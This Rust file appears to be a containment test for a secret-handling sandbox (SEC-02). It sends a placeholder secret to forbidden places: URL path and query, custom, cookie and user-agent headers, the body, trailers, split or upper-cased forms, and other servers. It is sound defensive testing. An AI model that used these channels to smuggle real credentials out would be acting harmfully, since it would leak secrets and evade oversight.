//! Takes the placeholder that stands for a secret from its environment and sends it where the secret must not go: in
//! the URL, in other headers, in the body, split and repeated, to other servers (SEC-02). It can't tell what became of
//! it, so it says what was sent; whoever runs it looks at what arrived.
//!
//! The arguments are the variable, the URL where the secret may go, in `authorization`, and URLs where it may not.

use std::env;
use std::process::ExitCode;

use hostile::{Attempts, control, is_control, targets};
use hostile_network::http::{Outcome, Request};

fn main() -> ExitCode {
    let targets = targets();
    let [variable, url, others @ ..] = &targets[..] else { return ExitCode::FAILURE };
    let Ok(placeholder) = env::var(variable) else {
        println!("failed: `{variable}` was not granted");
        return ExitCode::FAILURE;
    };
    let bearer = format!("Bearer {placeholder}");
    if is_control() {
        return control(ask(url, &bearer));
    }
    let mut attempts = Attempts::default();
    for (what, request) in replays(url, &placeholder) {
        report(&mut attempts, what, request.send().map(drop));
    }
    for other in others {
        let what = format!("authorization of {other}");
        let request = Request::get(other).header("authorization", bearer.as_bytes());
        report(&mut attempts, &what, request.send().map(drop));
    }
    println!("placeholder: {placeholder}");
    attempts.finish()
}

/// Prints the answer: a server that gives the secret back must not make it known.
fn ask(url: &str, bearer: &str) -> Outcome<()> {
    let answer = Request::get(url).header("authorization", bearer.as_bytes()).send()?.text()?;
    println!("answer: {answer}");
    Ok(())
}

/// A request that went out is not an escape by itself: the placeholder tells nobody anything.
fn report(attempts: &mut Attempts, what: &str, result: Outcome<()>) {
    match result {
        Ok(()) => attempts.contained(what, "sent"),
        Err(error) => attempts.contained(what, &error.to_string()),
    }
}

fn replays<'a>(url: &str, placeholder: &str) -> Vec<(&'a str, Request)> {
    let bytes = placeholder.as_bytes();
    let get = Request::get(url);
    let path = get.path.clone().unwrap_or_default();
    let (front, back) = placeholder.split_at(placeholder.len() / 2);
    vec![
        ("path", Request { path: Some(format!("{path}/{placeholder}")), ..get.clone() }),
        ("query", Request { path: Some(format!("{path}?q={placeholder}")), ..get.clone() }),
        ("other header", get.clone().header("x-note", bytes)),
        ("header's name", get.clone().header(placeholder, b"1")),
        ("cookie", get.clone().header("cookie", bytes)),
        ("user agent", get.clone().header("user-agent", bytes)),
        ("content type", get.clone().header("content-type", bytes)),
        ("body", Request::post(url, bytes)),
        ("upper case", get.clone().header("authorization", placeholder.to_uppercase().as_bytes())),
        ("half of it", get.clone().header("authorization", front.as_bytes())),
        ("in two headers", get.clone().header("x-front", front.as_bytes()).header("x-back", back.as_bytes())),
        ("trailer", Request { trailers: vec![("x-note".to_owned(), bytes.to_vec())], ..Request::post(url, b"x") }),
    ]
}
